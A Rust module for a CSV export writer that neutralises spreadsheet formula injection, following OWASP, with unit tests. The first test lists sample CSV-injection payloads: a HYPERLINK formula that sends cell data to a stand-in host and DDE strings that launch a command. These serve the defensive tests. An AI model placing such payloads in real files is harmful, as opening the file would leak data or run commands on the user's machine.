//! The one CSV writer every export uses (report rows, the analysts' export).
//!
//! CSV files are opened in spreadsheets, and a spreadsheet runs a cell that starts with `=`,
//! `+`, `-` or `@` (or a tab or carriage return before them) as a formula: a shopper's text
//! answer or a location's region could become `=HYPERLINK(…)` or a DDE command on an analyst's
//! machine. As OWASP recommends against CSV injection, such a cell is written with a leading
//! `'`, which spreadsheets show as text and do not run; plain numbers (`-0.25`, `-1e-9`) stay as
//! they are, since a number is never a formula. Quoting of separators, quotes and line breaks is
//! the `csv` crate's.

use std::borrow::Cow;

use serde::Serialize;

use crate::error::{ApiError, ApiResult};

/// Characters that make a spreadsheet read a cell as a formula, with their full-width forms
/// (some spreadsheets fold those to ASCII).
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// `-12`, `0.5`, `-1.5e-9`: text a spreadsheet reads as a number, never as a formula.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (mantissa, exponent) = match digits.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((whole, fraction)) => all_digits(whole) && all_digits(fraction),
        None => all_digits(mantissa),
    };
    let exponent_ok = exponent.is_none_or(|e| all_digits(e.strip_prefix(['+', '-']).unwrap_or(e)));
    mantissa_ok && exponent_ok
}

/// The cell as it is safe to write: with a leading `'` when a spreadsheet would run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// Writes rows (serde structs, or records of text) as CSV into memory, every cell neutralised.
pub struct CsvWriter {
    out: csv::Writer<Vec<u8>>,
    /// Whether the next serialized row should first write its field names as the header.
    header_pending: bool,
}

impl CsvWriter {
    /// `header`: whether the first serialized row is preceded by its field names.
    pub fn new(header: bool) -> Self {
        CsvWriter {
            out: csv::WriterBuilder::new()
                .has_headers(false)
                .from_writer(Vec::new()),
            header_pending: header,
        }
    }

    /// One record of text cells.
    pub fn write_record<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> ApiResult<()> {
        self.out
            .write_record(cells.into_iter().map(|c| neutralise(c).into_owned()))
            .map_err(ApiError::internal)
    }

    /// One row of a serde struct (its field names head the file when asked). The row is laid
    /// out by the `csv` crate, read back as cells, and each cell neutralised.
    pub fn serialize<T: Serialize>(&mut self, row: &T) -> ApiResult<()> {
        let mut scratch = csv::WriterBuilder::new()
            .has_headers(self.header_pending)
            .from_writer(Vec::new());
        scratch.serialize(row).map_err(ApiError::internal)?;
        let bytes = scratch.into_inner().map_err(ApiError::internal)?;
        self.header_pending = false;
        let mut records = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        for record in records.records() {
            let record = record.map_err(ApiError::internal)?;
            self.write_record(record.iter())?;
        }
        Ok(())
    }

    pub fn into_string(self) -> ApiResult<String> {
        String::from_utf8(self.out.into_inner().map_err(ApiError::internal)?)
            .map_err(ApiError::internal)
    }
}

/// Rows as CSV, headed by their field names.
pub fn rows_to_csv<R: Serialize>(rows: &[R]) -> ApiResult<String> {
    let mut out = CsvWriter::new(true);
    for row in rows {
        out.serialize(row)?;
    }
    out.into_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "-",
            "-e5",
            "-1-1",
        ] {
            assert_eq!(neutralise(payload), format!("'{payload}"), "{payload:?}");
        }
        for safe in [
            "", "0.25", "-0.25", "-12", "-1.5e-9", "1E+5", "East", "a=b", " =1", "'x",
        ] {
            assert_eq!(neutralise(safe), safe, "{safe:?}");
        }
    }

    #[derive(Serialize)]
    struct Line<'a> {
        region: &'a str,
        gap: f64,
        note: Option<&'a str>,
    }

    #[test]
    fn serialized_rows_keep_their_header_and_quoting() {
        let rows = [
            Line {
                region: "=1+1",
                gap: -0.125,
                note: Some("a, \"quoted\"\nline"),
            },
            Line {
                region: "East",
                gap: 0.5,
                note: None,
            },
        ];
        assert_eq!(
            rows_to_csv(&rows).unwrap(),
            "region,gap,note\n'=1+1,-0.125,\"a, \"\"quoted\"\"\nline\"\nEast,0.5,\n"
        );
        let empty: [Line; 0] = [];
        assert_eq!(rows_to_csv(&empty).unwrap(), "");
    }
}
